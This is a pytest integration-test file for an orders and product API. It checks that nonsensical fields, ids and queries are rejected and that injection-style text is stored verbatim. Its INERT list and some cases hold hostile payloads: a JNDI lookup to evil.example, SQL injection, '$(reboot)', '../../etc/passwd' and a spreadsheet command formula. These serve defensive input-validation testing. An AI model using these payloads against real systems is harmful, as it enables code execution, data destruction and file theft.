"""Values that make no sense, field by field: 422 with a pointer to the field, or 404 for ids; nothing written, nothing echoed."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote
from uuid import UUID, uuid4

import pytest

from tests.integration.facts import Facts
from tests.integration.problems import assert_points_at, assert_problem

ORDER: dict[str, Any] = {"lines": [{"sku": "SKU-0001", "quantity": 1}], "currency": "EUR"}


@pytest.fixture(autouse=True)
async def nothing_written(request: pytest.FixtureRequest, facts: Facts) -> Any:
    """I3, for every test of this file that refuses: a refused request leaves no row anywhere."""
    before = await facts.counts()
    yield
    if "accepted" not in request.fixturenames:
        assert await facts.counts() == before


def line(**changes: Any) -> dict[str, Any]:
    return ORDER | {"lines": [ORDER["lines"][0] | changes]}


ORDERS: dict[str, tuple[Any, str]] = {
    "null": (None, ""),
    "list": ([], ""),
    "string": ("x", ""),
    "nothing": ({}, "/lines"),
    "no lines": (ORDER | {"lines": []}, "/lines"),
    "101 lines": (ORDER | {"lines": [{"sku": f"S-{n}", "quantity": 1} for n in range(101)]}, "/lines"),
    "1,500 lines": (ORDER | {"lines": [{"sku": f"S-{n}", "quantity": 1} for n in range(1_500)]}, "/lines"),
    "lines is an object": (ORDER | {"lines": {}}, "/lines"),
    "a SKU twice": (ORDER | {"lines": ORDER["lines"] * 2}, "/lines"),
    "quantity 0": (line(quantity=0), "/lines/0/quantity"),
    "quantity -1": (line(quantity=-1), "/lines/0/quantity"),
    "quantity 10,001": (line(quantity=10_001), "/lines/0/quantity"),
    "quantity 2^31": (line(quantity=2**31), "/lines/0/quantity"),
    "quantity 2^63": (line(quantity=2**63), "/lines/0/quantity"),
    "quantity 10^20": (line(quantity=10**20), "/lines/0/quantity"),
    "quantity true": (line(quantity=True), "/lines/0/quantity"),
    "quantity '5'": (line(quantity="5"), "/lines/0/quantity"),
    "quantity 1e3": (line(quantity=1e3), "/lines/0/quantity"),
    "quantity 1.0": (line(quantity=1.0), "/lines/0/quantity"),
    "quantity null": (line(quantity=None), "/lines/0/quantity"),
    "no quantity": (ORDER | {"lines": [{"sku": "SKU-0001"}]}, "/lines/0/quantity"),
    "sku empty": (line(sku=""), "/lines/0/sku"),
    "sku lower case": (line(sku="sku-0001"), "/lines/0/sku"),
    "sku long": (line(sku="A" * 33), "/lines/0/sku"),
    "sku number": (line(sku=1), "/lines/0/sku"),
    "sku with a line end": (line(sku="SKU-0001\n"), "/lines/0/sku"),
    "sku sql": (line(sku="' OR 1=1--"), "/lines/0/sku"),
    "price sent": (line(unit_price_minor=1), "/lines/0/unit_price_minor"),
    "line_no sent": (line(line_no=1), "/lines/0/line_no"),
    "currency lower case": (ORDER | {"currency": "eur"}, "/currency"),
    "currency long": (ORDER | {"currency": "EURO"}, "/currency"),
    "currency null": (ORDER | {"currency": None}, "/currency"),
    "currency full width": (ORDER | {"currency": "\uff25\uff35\uff32"}, "/currency"),
    "status sent": (ORDER | {"status": "paid"}, "/status"),
    "id sent": (ORDER | {"id": str(uuid4())}, "/id"),
    "total sent": (ORDER | {"total_minor": 1}, "/total_minor"),
    "unknown field": (ORDER | {"coupon": "x"}, "/coupon"),
    "slash in a name": (ORDER | {"a/b~c": 1}, "/a~1b~0c"),
    "__proto__": (ORDER | {"__proto__": {}}, "/__proto__"),
    "expected total -1": (ORDER | {"expected_total_minor": -1}, "/expected_total_minor"),
    "expected total 10^30": (ORDER | {"expected_total_minor": 10**30}, "/expected_total_minor"),
    "expected total text": (ORDER | {"expected_total_minor": "999"}, "/expected_total_minor"),
    "expected total 999.0": (ORDER | {"expected_total_minor": 999.0}, "/expected_total_minor"),
    "note 501": (ORDER | {"note": "n" * 501}, "/note"),
    "note number": (ORDER | {"note": 5}, "/note"),
    "note control": (ORDER | {"note": "a\x07b"}, "/note"),
    "note bidi override": (ORDER | {"note": "a\u202eb"}, "/note"),
    "note ANSI": (ORDER | {"note": "\x1b[2J"}, "/note"),
    "note isolate": (ORDER | {"note": "\u2066x"}, "/note"),
    "note of marks": (ORDER | {"note": "e" + "\u0301\u0316" * 200}, "/note"),
    "note private use": (ORDER | {"note": "\ue000"}, "/note"),
    "note unassigned": (ORDER | {"note": "\U000e0fff"}, "/note"),
    "customer_id empty": (ORDER | {"customer_id": ""}, "/customer_id"),
    "customer_id long": (ORDER | {"customer_id": "c" * 256}, "/customer_id"),
    "customer_id long once normalised": (ORDER | {"customer_id": "\ufb2c" * 255}, "/customer_id"),
    "note long once normalised": (ORDER | {"note": "\ufb2c" * 500}, "/note"),
    "customer_id bidi": (ORDER | {"customer_id": "\u202eanna"}, "/customer_id"),
    "customer_id list": (ORDER | {"customer_id": ["anna"]}, "/customer_id"),
}


@pytest.mark.parametrize("name", ORDERS)
async def test_orders_that_make_no_sense(login: Any, name: str) -> None:
    body, pointer = ORDERS[name]
    operator = login("olga", role="operator")
    answer = await operator.http.post(
        "/v1/orders",
        content=json.dumps(body),
        headers=operator.headers | {"idempotency-key": str(uuid4()), "content-type": "application/json"},
    )
    assert_points_at(answer, pointer, name)


# What another program would run, expand or hide; here it is text, stored and given back as it came.
INERT = [
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "__proto__", "<script>alert(1)</script>", "'; DROP TABLE orders; --", "%s%n%x", "=cmd|' /C calc'!A0",
    "$(reboot)", "../../etc/passwd", "zero\u200bwidth", "\u0130stanbul", "line\nfeed\tand tab", "\U0001f469\u200d\U0001f680", "a" * 500,
]  # fmt: skip


@pytest.fixture
def accepted() -> None:
    """Marks a test that is meant to write."""


@pytest.mark.usefixtures("accepted")
@pytest.mark.parametrize("text", INERT)
async def test_text_that_others_would_run_is_text_here(login: Any, facts: Facts, text: str) -> None:
    anna = login(f"inert-{uuid4()}")
    placed = await anna.post("/orders", ORDER | {"note": text})
    assert (placed.status_code, placed.json()["note"]) == (201, text)
    assert await facts.value("SELECT note FROM orders WHERE id = $1", UUID(placed.json()["id"])) == text
    assert (await anna.get(f"/orders/{placed.json()['id']}")).json()["note"] == text
    assert await facts.value("SELECT count(*) FROM orders") > 0


CATALOGUE: dict[str, tuple[str, Any, str]] = {
    "patch nothing": ("patch", {}, ""),
    "patch null": ("patch", {"name": None}, ""),
    "patch price -1": ("patch", {"price_minor": -1}, "/price_minor"),
    "patch price 2^63": ("patch", {"price_minor": 2**63}, "/price_minor"),
    "patch price 1.5": ("patch", {"price_minor": 1.5}, "/price_minor"),
    "patch price text": ("patch", {"price_minor": "1"}, "/price_minor"),
    "patch active 1": ("patch", {"active": 1}, "/active"),
    "patch name empty": ("patch", {"name": ""}, "/name"),
    "patch name long": ("patch", {"name": "n" * 201}, "/name"),
    "patch name bidi": ("patch", {"name": "\u202e"}, "/name"),
    "patch currency": ("patch", {"currency": "USD"}, "/currency"),
    "patch version": ("patch", {"version": 9}, "/version"),
    "patch sku": ("patch", {"sku": "X"}, "/sku"),
    "restock 0": ("restock", {"quantity": 0}, "/quantity"),
    "restock -1": ("restock", {"quantity": -1}, "/quantity"),
    "restock 1,000,001": ("restock", {"quantity": 1_000_001}, "/quantity"),
    "restock true": ("restock", {"quantity": True}, "/quantity"),
    "restock nothing": ("restock", {}, "/quantity"),
    "restock more": ("restock", {"quantity": 1, "sku": "X"}, "/sku"),
}


@pytest.mark.parametrize("name", CATALOGUE)
async def test_catalogue_changes_that_make_no_sense(login: Any, name: str) -> None:
    operation, body, pointer = CATALOGUE[name]
    admin = login("adam", role="admin")
    if operation == "patch":
        answer = await admin.patch("/products/SKU-0001", body, if_match='"1.1"')
    else:
        answer = await admin.post("/products/SKU-0001/restock", body)
    assert_points_at(answer, pointer, name)


@pytest.mark.parametrize("body", [{"reason": "x"}, [], None, "x"], ids=repr)
async def test_cancel_and_ship_take_nothing(login: Any, body: Any) -> None:
    operator = login("olga", role="operator")
    headers = operator.headers | {"idempotency-key": "k", "if-match": '"1.1"', "content-type": "application/json"}
    for step in ("cancel", "ship"):
        answer = await operator.http.post(f"/v1/orders/{uuid4()}/{step}", content=json.dumps(body), headers=headers)
        assert_problem(answer, "validation-failed", (step, body))


BAD_IDS = [
    "7",
    "x" * 500,
    "%00",
    "%ff",
    "%zz",
    "..%2f..",
    "null",
    "{01890a5d-ac96-774b-bcce-b302099a8057}",
    "urn:uuid:01890a5d-ac96-774b-bcce-b302099a8057",
    "01890a5dac96774bbcceb302099a8057",
    "' OR 1=1--",
    "\u0661",
]


@pytest.mark.parametrize("bad", BAD_IDS)
async def test_ids_that_name_nothing(login: Any, bad: str) -> None:
    operator, admin = login("olga", role="operator"), login("adam", role="admin")
    segment = bad if "%" in bad else quote(bad, safe="")
    for who, path in ((operator, "/orders/{}"), (operator, "/orders/{}/timeline"), (admin, "/products/{}"), (admin, "/products/{}/availability")):
        assert_problem(await who.get(path.format(segment)), "not-found", (path, bad))
    for step in ("cancel", "ship"):
        assert_problem(await operator.post(f"/orders/{segment}/{step}", if_match='"1.1"'), "not-found", (step, bad))
    assert_problem(await admin.patch(f"/products/{segment}", {"name": "x"}, if_match='"1.1"'), "not-found", bad)
    assert_problem(await admin.post(f"/products/{segment}/restock", {"quantity": 1}), "not-found", bad)


QUERIES = {
    "limit=0": "limit",
    "limit=101": "limit",
    "limit=-1": "limit",
    "limit=9223372036854775808": "limit",
    "limit=1000000000": "limit",
    "limit=x": "limit",
    "limit=1.5": "limit",
    "limit=": "limit",
    "limit=1e1": "limit",
    "limit=%00": "limit",
    "limit=1&limit=2": "query",
    "offset=5": "offset",
    "cursor=" + "A" * 65: "cursor",
    "cursor=a&cursor=b": "query",
    "access_token=x": "access_token",
}


@pytest.mark.parametrize("query", QUERIES)
async def test_queries_that_make_no_sense(login: Any, query: str) -> None:
    for path in ("/orders", "/products"):
        assert_points_at(await login("adam", role="admin").get(f"{path}?{query}"), QUERIES[query], (path, query))


@pytest.mark.parametrize(
    "query", ["consumer=%00", "consumer=%E2%80%AE", "consumer=" + "c" * 65, "status=closed", "limit=0", "limit=9223372036854775808"]
)
async def test_dead_letter_filters_that_make_no_sense(login: Any, query: str) -> None:
    assert_points_at(await login("adam", role="admin").get(f"/admin/dead-letters?{query}"), query.partition("=")[0], query)


@pytest.mark.parametrize(
    "query", ["status=done", "status=PAID", "status=", "customer_id=", "customer_id=%00", "customer_id=" + "c" * 256, "customer_id=%E2%80%AE"]
)
async def test_order_filters_that_make_no_sense(login: Any, query: str) -> None:
    assert_points_at(await login("adam", role="admin").get(f"/orders?{query}"), query.partition("=")[0], query)
